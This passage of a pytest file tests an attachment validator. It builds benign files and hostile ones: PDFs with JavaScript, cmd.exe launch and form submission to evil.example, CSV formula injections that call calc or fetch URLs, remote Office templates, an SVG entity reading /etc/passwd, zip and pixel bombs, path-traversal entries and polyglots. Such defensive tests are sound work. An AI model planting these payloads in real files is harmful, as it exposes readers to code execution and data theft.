"""Attachments: hostile files made here, byte by byte, and honest ones that have to pass."""

from __future__ import annotations

import base64
import html.parser
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
import yaml
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms, PngImagePlugin

from lakthan import attachments, messages
from lakthan.diagnostics import Diagnostic
from lakthan.model import Place
from tests.conftest import ROOT
from tests.patience import ANY_PACE, ends

SAMPLES = sorted((ROOT / "content").glob("**/files/*"))


# Files -----------------------------------------------------------------------------------------------------------


def pdf(*bodies: bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF of one empty page, with further objects from number 10 on."""
    objects = [
        (1, b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog),
        (2, b"<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"),
        *enumerate(bodies, 10),
    ]
    out = head + b"".join(b"%d 0 obj\n%s\nendobj\n" % one for one in objects)
    return out + b"xref\n0 1\ntrailer\n<</Root 1 0 R/Size 20>>\nstartxref\n%d\n%%%%EOF\n" % len(out) + tail


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def packed_objects(*bodies: bytes, pack: Callable[[bytes], bytes] = zlib.compress, entries: bytes = b"") -> bytes:
    """An object stream: objects 50, 51, … one after the other, compressed."""
    pairs, text = [], b""
    for number, body in enumerate(bodies, 50):
        pairs.append(b"%d %d" % (number, len(text)))
        text += body + b" "
    head = b" ".join(pairs) + b" "
    named = b"/Type/ObjStm/N %d/First %d%s" % (len(bodies), len(head), entries or b"/Filter/FlateDecode")
    return stream(pack(head + text), named)


def archive(parts: dict[str, bytes], stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(zipfile.ZipInfo(name), content, file.compression)
    return out.getvalue()


MAIN = {
    "docx": "wordprocessingml.document.main",
    "xlsx": "spreadsheetml.sheet.main",
    "pptx": "presentationml.presentation.main",
}
RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    b"</Relationships>"
)


def parts(kind: str = "docx", **changes: bytes) -> dict[str, bytes]:
    """What an Office file is made of."""
    types = (
        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" '
        f'ContentType="application/vnd.openxmlformats-officedocument.{MAIN[kind]}+xml"/></Types>'
    )
    return {"[Content_Types].xml": types.encode(), "_rels/.rels": b"<r/>", "word/document.xml": b"<d/>", **changes}


def office(kind: str = "docx", more: dict[str, bytes] | None = None) -> bytes:
    return archive({**parts(kind), **(more or {})})


def odf(kind: str = "odt", more: dict[str, bytes] | None = None) -> bytes:
    mime = {"odt": b"text", "ods": b"spreadsheet", "odp": b"presentation"}[kind]
    content = {"mimetype": b"application/vnd.oasis.opendocument." + mime, "content.xml": b"<o/>", "Object 1": b"x"}
    return archive({**content, **(more or {})})


def picture(kind: str = "JPEG", size: tuple[int, int] = (48, 32), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    blocks(size, mode).save(out, kind, **options)
    return out.getvalue()


def blocks(size: tuple[int, int] = (48, 32), mode: str = "RGB") -> Image.Image:
    """Another colour in every block of 16 by 16, so that every turn shows."""
    image = Image.new("RGB", size)
    for x in range(size[0]):
        for y in range(size[1]):
            image.putpixel((x, y), ((x // 16) * 100 % 256, (y // 16) * 200 % 256, (x // 16 + y // 16 * 3) * 40 % 256))
    return image.convert(mode)


def exif(orientation: int = 1) -> bytes:
    """Who, with what and where."""
    found = Image.Exif()
    found[0x0112] = orientation
    found[0x010F] = "SECRETMAKER"
    gps = found.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (13.0, 44.0, 47.0), "E", (100.0, 31.0, 59.0)
    return found.tobytes()


def frames(kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    images = [Image.new("RGB", (20, 10), colour) for colour in ("red", "lime", "blue")]
    images[0].save(out, kind, save_all=True, append_images=images[1:], duration=[50, 60, 70], loop=0, **options)
    return out.getvalue()


def box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I", len(body) + 8) + kind + body


def mp4(*more: bytes) -> bytes:
    place = box(b"udta", box(b"\xa9xyz", b"\x00\x12\x15\xc7+13.7563+100.5018/"))
    moov = box(b"moov", box(b"mvhd", bytes(100)), box(b"trak", box(b"tkhd", bytes(84)), place), place)
    return box(b"ftyp", b"isom\0\0\2\0isommp41") + moov + box(b"mdat", b"picture" * 9) + b"".join(more)


def webm(doctype: bytes = b"webm", tail: bytes = b"") -> bytes:
    head = b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(head)]) + head + b"\x18\x53\x80\x67\x84abcd" + tail


def noted(text: str) -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text("note", text)
    return found


def svg(inside: str = "<rect width='9' height='9'/>", attributes: str = "") -> str:
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<svg {space} viewBox="0 0 9 9" {attributes}>{inside}</svg>'


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_claiming(width: int, height: int, data: bytes = zlib.compress(bytes(99))) -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


@pytest.fixture
def codes(tmp_path: Path) -> Callable[[str, bytes], list[str]]:
    """The codes that a file of this name and content earns. Each diagnostic has words, and the file stays as it was."""

    def ask(name: str, content: bytes) -> list[str]:
        path = tmp_path / name
        path.write_bytes(content)
        found = list(attachments.problems(path))
        assert path.read_bytes() == content
        for code, args in found:
            diagnostic = Diagnostic(code, Place(name), "error", args)
            for language in messages.LANGUAGES:
                assert diagnostic.message(language)
                assert diagnostic.help(language)
        return [code.removeprefix("attachment-") for code, _ in found]

    return ask


@pytest.fixture
def published(tmp_path: Path) -> Callable[[str, bytes], bytes]:
    """What of a file goes to the site: the same each time, without touching the file."""

    def ask(name: str, content: bytes) -> bytes:
        path = tmp_path / name
        path.write_bytes(content)
        assert not list(attachments.problems(path))
        first = attachments.published(path)
        assert first == attachments.published(path)
        assert path.read_bytes() == content
        assert [entry.name for entry in tmp_path.iterdir()] == [name]
        path.write_bytes(first)
        assert not list(attachments.problems(path)), "what is published would be refused"
        path.unlink()
        return first

    return ask


# What passes and what does not -----------------------------------------------------------------------------------

THAI = "ประกาศ,๑\n".encode()
ZIP = archive({"a.txt": b"a"})
EXE = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0This program cannot be run in DOS mode" + bytes(99) + b"PE\0\0"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ENCRYPTED_PACKAGE = OLE + "EncryptedPackage".encode("utf-16-le")
EMPTY_ZIP = b"PK\x05\x06" + bytes(18)

GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("a.pdf", pdf()),
    "pdf upper case": ("A.PDF", pdf()),
    "pdf with page stream": ("a.pdf", pdf(stream(zlib.compress(b"1 0 0 1 0 0 cm (hi) Tj")))),
    "pdf opens at a page": ("a.pdf", pdf(catalog=b"/OpenAction[3 0 R/Fit]")),
    "pdf opens by action": ("a.pdf", pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
    "pdf opens by reference": ("a.pdf", pdf(b"[3 0 R /Fit]", catalog=b"/OpenAction 10 0 R")),
    "pdf opens from packed": ("a.pdf", pdf(packed_objects(b"<</OpenAction 51 0 R>>", b"<</S/GoTo/D[3 0 R]>>"))),
    "pdf with link": ("a.pdf", pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.go.th)>>>>")),
    "pdf with packed objects": ("a.pdf", pdf(packed_objects(b"<</Type/Font>>"))),
    "pdf with unpacked objects": ("a.pdf", pdf(packed_objects(b"<</Type/Font>>", pack=bytes, entries=b" "))),
    "pdf of two versions": ("a.pdf", pdf() + pdf(head=b"")),
    "pdf with names in compressed data": ("a.pdf", pdf(stream(b"\x01/AA /JS /XFA", b"/Filter/DCTDecode"))),
    "docx": ("a.docx", office()),
    "xlsx": ("a.xlsx", office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0\1"})),
    "pptx": ("a.pptx", office("pptx", {"ppt/embeddings/Sheet1.xlsx": office("xlsx")})),
    "docx with link": ("a.docx", office(more={"word/_rels/d.rels": RELATION % (b"hyperlink", b"https://www.go.th")})),
    "odt": ("a.odt", odf()),
    "ods": ("a.ods", odf("ods")),
    "odp": ("a.odp", odf("odp")),
    "csv": ("a.csv", THAI),
    "csv numbers": ("a.csv", b"a,-1,+66 2 123,=SUM(A1:A3),- (none)\n"),
    "csv of Windows-874": ("a.csv", "ประกาศ,1\n".encode("cp874")),
    "txt": ("a.txt", b"\xef\xbb\xbf" + THAI),
    "txt that begins as another": ("a.txt", b"BM and MZ, BZh and GIF89a"),
    "jpg": ("a.jpg", picture()),
    "jpeg": ("a.jpeg", picture(progressive=True)),
    "jpg grey": ("a.jpg", picture(mode="L")),
    "jpg for print": ("a.jpg", picture(mode="CMYK")),
    "jpg of a phone": ("a.jpg", picture() + picture()),
    "jpg that moves": ("a.jpg", picture() + mp4()),
    "jpg padded": ("a.jpg", picture() + bytes(100)),
    "png": ("a.png", picture("PNG")),
    "png palette": ("a.png", picture("PNG", mode="P")),
    "gif": ("a.gif", picture("GIF")),
    "webp": ("a.webp", picture("WEBP")),
    "gif moves": ("a.gif", frames("GIF")),
    "webp moves": ("a.webp", frames("WEBP")),
    "png moves": ("a.png", frames("PNG")),
    "svg": ("a.svg", svg().encode()),
    "svg with doctype": (
        "a.svg",
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + svg().encode(),
    ),
    "svg utf-16": ("a.svg", svg().encode("utf-16")),
    "mp4": ("a.mp4", mp4()),
    "webm": ("a.webm", webm()),
}


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert data.count(old) >= 1
    return data.replace(old, new)


def lying_zip() -> bytes:
    """The table says 10 bytes, and a megabyte comes out."""
    data = archive({**parts(), "word/a.xml": bytes(1024 * 1024)})
    size = struct.pack("<I", 1024 * 1024)
    return patched(data, size, struct.pack("<I", 10))


def overlapping() -> bytes:
    """Two entries of the table lead to the same place."""
    data = archive({**parts(), "word/b.xml": b"x" * 10}, stored=True)
    table = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    last = data.rindex(b"PK\x01\x02")
    more = data[last:end].replace(b"word/b.xml", b"word/c.xml")
    counts = struct.pack("<HHII", 5, 5, end - table + len(more), table)
    return data[:end] + more + data[end : end + 8] + counts + b"\0\0"


def encrypted_zip() -> bytes:
    data = bytearray(office())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(sign) + at] |= 1
    return bytes(data)


def hidden_gap() -> bytes:
    """Something between the entries and their table, which no entry owns."""
    data = office()
    table = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    extra = b"hidden away" * 10
    return data[:table] + extra + data[table : end + 16] + struct.pack("<I", table + len(extra)) + b"\0\0"


def with_comment(data: bytes) -> bytes:
    return data[:-2] + b"\x05\0hello"


def with_macro_type() -> bytes:
    types = parts()["[Content_Types].xml"].replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )
    return office(more={"[Content_Types].xml": types})


def other_name() -> bytes:
    """The entry is called otherwise than in the table."""
    data = office()
    at = data.index(b"word/document.xml")
    return data[:at] + b"W" + data[at + 1 :]


def gif_of(frames: int) -> bytes:
    data = picture("GIF", (2, 2))
    first = data.index(b",\0\0\0\0\2\0")
    return data[:first] + data[first:-1] * frames + b";"


def faked(before: bytes) -> bytes:
    """An object stream that does not say so, its dictionary broken by what looks like another stream."""
    fake = b"/X(stream\n" + zlib.compress(b"") + b")"
    found = packed_objects(JS).replace(b"/Type/ObjStm", b"").replace(before, fake + before)
    return found.replace(b"/First", b"/F#69rst")


def scans(count: int) -> bytes:
    """A progressive JPEG that repeats its last scan."""
    data = picture(progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + data[-2:]


SIZE = b",\0\0\0\0\x30\0\x20\0"
JS = b"<</S/JavaScript/JS(app.alert(1))>>"

BAD: dict[str, tuple[str, str, bytes | Callable[[], bytes]]] = {
    # code, name, content
    "archive": ("type-refused", "a.zip", ZIP),
    "program": ("type-refused", "a.exe", EXE),
    "web page": ("type-refused", "a.html", b"<html>"),
    "program named after a PDF": ("type-refused", "a.pdf.exe", EXE),
    "no extension": ("type-refused", "pdf", pdf()),
    "old Word": ("type-refused", "a.doc", OLE),
    "old Word with macros": ("macros", "a.doc", OLE + "_VBA_PROJECT".encode("utf-16-le")),
    "docm": ("macros", "a.docm", office()),
    "XLSM": ("macros", "a.XLSM", office("xlsx")),
    "nothing": ("empty", "a.pdf", b""),
    "large pdf": ("too-large", "a.pdf", lambda: b"%PDF-" + bytes(25 * 1024 * 1024)),
    "large text": ("too-large", "a.csv", lambda: b"a" * (5 * 1024 * 1024 + 1)),
    # What it says it is
    "png as jpg": ("mismatch", "a.jpg", picture("PNG")),
    "jpg as pdf": ("mismatch", "a.pdf", picture()),
    "html as pdf": ("mismatch", "a.pdf", b"<!DOCTYPE html><html></html>"),
    "html as txt": ("mismatch", "a.txt", b" \n<HTML><script>alert(1)</script>"),
    "html as svg": ("mismatch", "a.svg", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
    "program as txt": ("mismatch", "a.txt", EXE),
    "script as txt": ("mismatch", "a.txt", b"#!/bin/sh\nrm"),
    "binary as csv": ("mismatch", "a.csv", b"a,b\0c"),
    "zip as docx": ("mismatch", "a.docx", ZIP),
    "xlsx as docx": ("mismatch", "a.docx", office("xlsx")),
    "docx as odt": ("mismatch", "a.odt", office()),
    "odt as docx": ("mismatch", "a.docx", odf()),
    "doc as docx": ("mismatch", "a.docx", OLE),
    "heic as jpg": ("mismatch", "a.jpg", box(b"ftyp", b"heic\0\0\0\0mif1")),
    "mov as mp4": ("mismatch", "a.mp4", patched(mp4(), b"ftypisom", b"ftypqt  ")),
    "mkv as webm": ("mismatch", "a.webm", webm(b"matroska")),
    "other xml as svg": ("mismatch", "a.svg", b"<?xml version='1.0'?><feed/>"),
    "svg of no namespace": ("mismatch", "a.svg", b"<svg/>"),
    # Macros, packages, what is fetched
    "vbaProject": ("macros", "a.docx", office(more={"word/vbaProject.bin": OLE})),
    "vbaProject elsewhere": ("macros", "a.docx", office(more={"word/VBAPROJECT.xml": b"<x/>"})),
    "macro type": ("macros", "a.docx", with_macro_type()),
    "macro sheet": ("macros", "a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "macros in odt": ("macros", "a.odt", odf(more={"Basic/Standard/Module1.xml": b"<x/>"})),
    "script in odt": ("macros", "a.odt", odf(more={"Scripts/python/a.py": b"x"})),
    "event in odt": ("macros", "a.odt", odf(more={"content.xml": b'<o h="vnd.sun.star.script:a"/>'})),
    "macros behind a chart": (
        "macros",
        "a.pptx",
        office("pptx", {"ppt/embeddings/S.xlsx": office("xlsx", {"xl/vbaProject.bin": OLE})}),
    ),
    "OLE package": ("embeds", "a.docx", office(more={"word/embeddings/oleObject1.bin": OLE})),
    "any package": ("embeds", "a.docx", office(more={"word/embeddings/object.bin": b"x"})),
    "OLE in odt": ("embeds", "a.odt", odf(more={"Object 1": OLE})),
    "program inside": ("embeds", "a.docx", office(more={"word/media/image1.png": EXE})),
    "program by name": ("embeds", "a.docx", office(more={"word/a.exe": b"x"})),
    "page inside": ("embeds", "a.docx", office(more={"word/afchunk.htm": b"x"})),
    "ActiveX": ("embeds", "a.docx", office(more={"word/activeX/activeX1.xml": b"<x/>"})),
    "archive inside": ("embeds", "a.docx", office(more={"word/media/image1.png": ZIP})),
    "three deep": (
        "embeds",
        "a.pptx",
        office("pptx", {"ppt/embeddings/S.xlsx": office("xlsx", {"xl/embeddings/D.docx": office()})}),
    ),
    "template from afar": (
        "remote",
        "a.docx",
        office(more={"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"http://evil.example/t.dotm")}),
    ),
    "picture from afar": (
        "remote",
        "a.docx",
        office(more={"word/_rels/document.xml.rels": RELATION % (b"image", b"file://host/a.png")}),
    ),
    "DDE": ("remote", "a.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<x><ddeLink/></x>"})),
    # What cannot be looked into
    "locked docx": ("encrypted", "a.docx", ENCRYPTED_PACKAGE),
    "locked zip": ("encrypted", "a.docx", encrypted_zip()),
    "locked odt": ("encrypted", "a.odt", odf(more={"META-INF/manifest.xml": b"<m:encryption-data/>"})),
    "locked pdf": ("encrypted", "a.pdf", patched(pdf(), b"/Root", b"/Encrypt 9 0 R/Root")),
    "locked pdf, escaped": ("encrypted", "a.pdf", patched(pdf(), b"/Root", b"/#45ncrypt 9 0 R/Root")),
    # Two things at once
    "junk, then pdf": ("polyglot", "a.pdf", b"junk\n" + pdf()),
    "picture, then pdf": ("polyglot", "a.pdf", b"GIF89a" + bytes(20) + pdf()),
    "pdf in a picture": ("polyglot", "a.png", picture("PNG", pnginfo=noted("%PDF-1.4"))),
    "pdf, then zip": ("polyglot", "a.pdf", pdf() + ZIP),
    "pdf around zip": ("polyglot", "a.pdf", pdf(stream(archive({"a": b"a"}, stored=True)[:-2] + b"\x20\0", b""))),
    "pdf, then html": ("polyglot", "a.pdf", pdf(tail=b"<html><script>alert(1)</script>")),
    "pdf, then script": ("polyglot", "a.pdf", pdf(tail=b"alert(1)")),
    "html in a pdf": ("polyglot", "a.pdf", pdf(head=b"%PDF-1.7\n%<script>alert(1)</script>\n")),
    "pdf, then program": ("polyglot", "a.pdf", pdf(tail=EXE)),
    "junk, then docx": ("polyglot", "a.docx", b"junk" + office()),
    "docx, then junk": ("polyglot", "a.docx", office() + b"junk" * 9),
    "docx with comment": ("polyglot", "a.docx", with_comment(office())),
    "docx with a gap": ("polyglot", "a.docx", hidden_gap()),
    "pdf in docx": ("polyglot", "a.docx", archive({"%PDF-1.4": b"x", **parts()})),
    "png, then zip": ("polyglot", "a.png", picture("PNG") + ZIP),
    "png, then junk": ("polyglot", "a.png", picture("PNG") + b"trailing"),
    "jpg, then zip": ("polyglot", "a.jpg", picture() + ZIP),
    "jpg, then junk": ("polyglot", "a.jpg", picture() + b"trailing"),
    "jpg, jpg, then zip": ("polyglot", "a.jpg", picture() + picture() + ZIP),
    "jpg, then html": ("polyglot", "a.jpg", picture() + b"<html>"),
    "jpg with html": ("polyglot", "a.jpg", picture(comment=b"<script>alert(1)</script>")),
    "jpg with zip in a comment": ("polyglot", "a.jpg", picture(comment=ZIP[:-2] + b"\x20\0" + bytes(32))),
    "gif, then js": ("polyglot", "a.gif", picture("GIF") + b"*/=1;alert(1)"),
    "webp, then rar": ("polyglot", "a.webp", picture("WEBP") + b"Rar!\x1a\x07\0"),
    "mp4, then zip": ("polyglot", "a.mp4", mp4(box(b"free", ZIP))),
    "webm with html": ("polyglot", "a.webm", webm(tail=b"\xec\x86<html>")),
    "text with html": ("polyglot", "a.csv", b"a,b\n<html>"),
    "text, then zip": ("mismatch", "a.txt", b"a,b\n" + EMPTY_ZIP),
    # PDF that acts
    "js": ("pdf-active", "a.pdf", pdf(JS, catalog=b"/OpenAction 10 0 R")),
    "js, escaped": ("pdf-active", "a.pdf", pdf(JS.replace(b"/JavaScript", b"/#4aava#53cript"))),
    "js, packed": ("pdf-active", "a.pdf", pdf(packed_objects(b"<<>>", JS))),
    "js, packed and nothing said": (
        "pdf-active",
        "a.pdf",
        pdf(packed_objects(JS).replace(b"/Type/ObjStm", b"")),
    ),
    "js, packed, behind a fake stream": (
        "pdf-active",
        "a.pdf",
        pdf(faked(b"/First")),
    ),
    "js, packed, behind another fake stream": ("pdf-active", "a.pdf", pdf(faked(b"/Filter"))),
    "js, outside, as if in a stream": ("pdf-active", "a.pdf", pdf(b"% stream\n " + JS)),
    "js by name only": ("pdf-active", "a.pdf", pdf(b"<</Names<</JavaScript 11 0 R>>>>")),
    "launch": ("pdf-active", "a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "sends": ("pdf-active", "a.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>")),
    "file inside": ("pdf-active", "a.pdf", pdf(stream(b"x", b"/Type/EmbeddedFile"))),
    "files inside": ("pdf-active", "a.pdf", pdf(b"<</Names<</EmbeddedFiles 11 0 R>>>>")),
    "opens an address": ("pdf-active", "a.pdf", pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example)>>")),
    "opens by reference": (
        "pdf-active",
        "a.pdf",
        pdf(b"<</S/URI/URI(http://e.example)>>", catalog=b"/OpenAction 10 0 R"),
    ),
    "opens from packed": ("pdf-active", "a.pdf", pdf(packed_objects(b"<</OpenAction 51 0 R>>", b"<</S/URI/URI(h)>>"))),
    "acts on a page": ("pdf-active", "a.pdf", pdf(b"<</AA<</O<</S/URI/URI(http://evil.example)>>>>>>")),
    "XFA": ("pdf-active", "a.pdf", pdf(b"<</AcroForm<</XFA 11 0 R>>>>")),
    "film": ("pdf-active", "a.pdf", pdf(b"<</Subtype/RichMedia>>")),
    "objects packed oddly": (
        "corrupt",
        "a.pdf",
        pdf(packed_objects(JS, pack=lambda t: t.hex().encode() + b">", entries=b"/Filter/ASCIIHexDecode")),
    ),
    "objects packed twice": (
        "corrupt",
        "a.pdf",
        pdf(
            packed_objects(
                JS, pack=lambda t: zlib.compress(zlib.compress(t)), entries=b"/Filter[/FlateDecode/FlateDecode]"
            )
        ),
    ),
    # Formulas
    "csv that calls": ("formula", "a.csv", b"a,b\n1,=cmd|' /C calc'!A0\n"),
    "csv that asks": ("formula", "a.csv", b'a,b\n1,"=HYPERLINK(""http://evil.example"")"\n'),
    "csv that asks at once": ("formula", "a.csv", b"\xef\xbb\xbf+WEBSERVICE(A1)"),
    "csv that imports": ("formula", "a.csv", b"1;@importxml(A1)"),
    # Bombs
    "zip bomb": ("bomb", "a.docx", lambda: office(more={"word/a.xml": bytes(8 * 1024 * 1024)})),
    "large zip": ("bomb", "a.docx", lambda: office(more={f"w/{i}.xml": (b"%09d" % i) * 999_999 for i in range(12)})),
    "lying zip": ("bomb", "a.docx", lying_zip()),
    "overlapping zip": ("bomb", "a.docx", overlapping()),
    "many parts": ("bomb", "a.docx", lambda: office(more={f"w/{i}": b"" for i in range(5_001)})),
    "pdf bomb": (
        "bomb",
        "a.pdf",
        lambda: pdf(packed_objects(bytes(12 * 1024 * 1024)), packed_objects(bytes(12 * 1024 * 1024))),
    ),
    "pdf of packed numbers": ("corrupt", "a.pdf", lambda: pdf(packed_objects(*[b""] * 100_000))),
    "pdf of packed escapes": ("corrupt", "a.pdf", lambda: pdf(packed_objects(b"#41" * 100_001))),
    "many links": (
        "bomb",
        "a.docx",
        lambda: office(more={f"w/_rels/{i}.rels": b"<a>%04dx</a>" % i * 99_999 for i in range(7)}),
    ),
    "png bomb": ("too-many-pixels", "a.png", png_claiming(8_000, 8_000)),
    "larger png bomb": ("too-many-pixels", "a.png", png_claiming(100_000, 100_000)),
    "gif bomb": ("too-many-pixels", "a.gif", picture("GIF").replace(b"\x30\0\x20\0", b"\xff\xff\xff\xff", 1)),
    "gif frame bomb": ("too-many-pixels", "a.gif", patched(picture("GIF"), SIZE, SIZE[:5] + b"\xff" * 4)),
    "gif frame of some size": ("too-many-pixels", "a.gif", patched(picture("GIF"), SIZE, SIZE[:5] + b"\x40\x1f" * 2)),
    "gif of many frames": ("too-many-pixels", "a.gif", gif_of(1_001)),
    # Damaged
    "half a jpg": ("corrupt", "a.jpg", picture(size=(160, 160))[:-300]),
    "half a jpg with an end": ("corrupt", "a.jpg", picture(size=(160, 160))[:-900] + b"\xff\xd9"),
    "half a png": ("corrupt", "a.png", picture("PNG")[:-20]),
    "png of nonsense": ("corrupt", "a.png", png_claiming(8, 8, b"nonsense")),
    "png with wrong sums": ("corrupt", "a.png", patched(picture("PNG"), b"IDAT", b"IDAT\0")),
    "half a webp": ("corrupt", "a.webp", picture("WEBP")[:-20]),
    "gif without end": ("corrupt", "a.gif", picture("GIF")[:-1]),
    "jpg of many scans": ("corrupt", "a.jpg", scans(99)),
    "half a pdf": ("corrupt", "a.pdf", pdf()[:150]),
    "half a docx": ("corrupt", "a.docx", office()[:-40]),
    "docx with wrong sum": ("corrupt", "a.docx", patched(archive(parts(), stored=True), b"<d/>", b"<e/>")),
    "docx with two of a name": ("corrupt", "a.docx", office(more={"WORD/document.xml": b"<x/>"})),
    "docx that climbs": ("corrupt", "a.docx", office(more={"../../evil.xml": b"<x/>"})),
    "docx that is absolute": ("corrupt", "a.docx", office(more={"/etc/passwd.xml": b"<x/>"})),
    "docx with another entry": ("corrupt", "a.docx", other_name()),
    "docx with entities": (
        "corrupt",
        "a.docx",
        office(more={"word/_rels/a.rels": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
    ),
    "svg with entities": ("corrupt", "a.svg", b'<!DOCTYPE svg [<!ENTITY x "y">]>' + svg("<text>&x;</text>").encode()),
    "svg from outside": (
        "corrupt",
        "a.svg",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("&x;").encode(),
    ),
    "svg too deep": ("corrupt", "a.svg", svg("<g>" * 5_000 + "</g>" * 5_000).encode()),
    "svg too large": ("corrupt", "a.svg", svg("<g/>" * 50_001).encode()),
    "svg unfinished": ("corrupt", "a.svg", svg().encode()[:-3]),
    "half an mp4": ("corrupt", "a.mp4", mp4()[:-5]),
    "mp4 without a film": ("corrupt", "a.mp4", box(b"ftyp", b"isom\0\0\2\0")),
    "half a webm": ("corrupt", "a.webm", webm()[:-2]),
}


@pytest.mark.parametrize("name", GOOD)
def test_honest_files_pass(name: str, codes: Callable[[str, bytes], list[str]]) -> None:
    assert codes(*GOOD[name]) == []


@pytest.mark.parametrize("name", BAD)
def test_others_do_not(name: str, codes: Callable[[str, bytes], list[str]]) -> None:
    code, file, content = BAD[name]
    assert codes(file, content if isinstance(content, bytes) else content()) == [code]


def test_samples_pass() -> None:
    """The repository's own attachments."""
    assert len(SAMPLES) > 30
    for path in SAMPLES:
        assert list(attachments.problems(path)) == [], path
        if path.suffix == ".pdf":
            assert attachments.published(path) == path.read_bytes()
        else:
            assert attachments.published(path)


def test_every_code_is_tried() -> None:
    own = resources.files("lakthan").joinpath("catalogue/en/attachments.yml").read_text(encoding="utf-8")
    assert set(yaml.safe_load(own)["problem"]) == {f"attachment-{code}" for code, _, _ in BAD.values()}


def test_every_type_is_tried() -> None:
    assert {name.rpartition(".")[2].lower() for name, _ in GOOD.values()} == set(attachments.ALLOWED)


def test_all_of_a_file_at_once(codes: Callable[[str, bytes], list[str]]) -> None:
    content = {
        "word/vbaProject.bin": OLE,
        "word/vbaData.xml": b"<x/>",
        "word/embeddings/oleObject1.bin": OLE,
        "word/_rels/document.xml.rels": RELATION % (b"image", b"http://evil.example/a.png"),
    }
    assert codes("a.docx", office(more=content)) == ["macros", "embeds", "remote"]


def test_size_is_said(tmp_path: Path) -> None:
    path = tmp_path / "a.mp4"
    with path.open("wb") as file:
        file.truncate(100 * 1024 * 1024 + 1)
    ((code, args),) = attachments.problems(path)
    assert "100.1 MB, and 100 MB" in Diagnostic(code, Place("a"), "error", args).message("en")


def test_missing_and_folders(tmp_path: Path) -> None:
    assert [code for code, _ in attachments.problems(tmp_path / "none.pdf")] == ["unreadable-file"]
    (tmp_path / "folder.pdf").mkdir()
    assert list(attachments.problems(tmp_path / "folder.pdf"))


def test_names_inside_cannot_write_to_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(office(more={"word/\u202egnp.\x85exe": b"x"}))
    ((_, args),) = attachments.problems(path)
    assert args == {"part": "word/?gnp.?exe"}


# Pictures --------------------------------------------------------------------------------------------------------

# Where a pixel of the upright picture (x, y) stands in the stored one of w by h pixels: by the definition of each
# orientation (which corner of the scene row 0 and column 0 are), not by the code under test.
STORED: dict[int, Callable[[int, int, int, int], tuple[int, int]]] = {
    1: lambda x, y, w, h: (x, y),
    2: lambda x, y, w, h: (w - 1 - x, y),
    3: lambda x, y, w, h: (w - 1 - x, h - 1 - y),
    4: lambda x, y, w, h: (x, h - 1 - y),
    5: lambda x, y, w, h: (y, x),
    6: lambda x, y, w, h: (y, h - 1 - x),
    7: lambda x, y, w, h: (w - 1 - y, h - 1 - x),
    8: lambda x, y, w, h: (w - 1 - y, x),
}


@pytest.mark.parametrize("orientation", STORED)
@pytest.mark.parametrize(
    ("name", "options"),
    [("a.jpg", {"quality": 95, "subsampling": 0}), ("a.png", {}), ("a.webp", {"lossless": True})],
)
def test_upright_and_without_metadata(
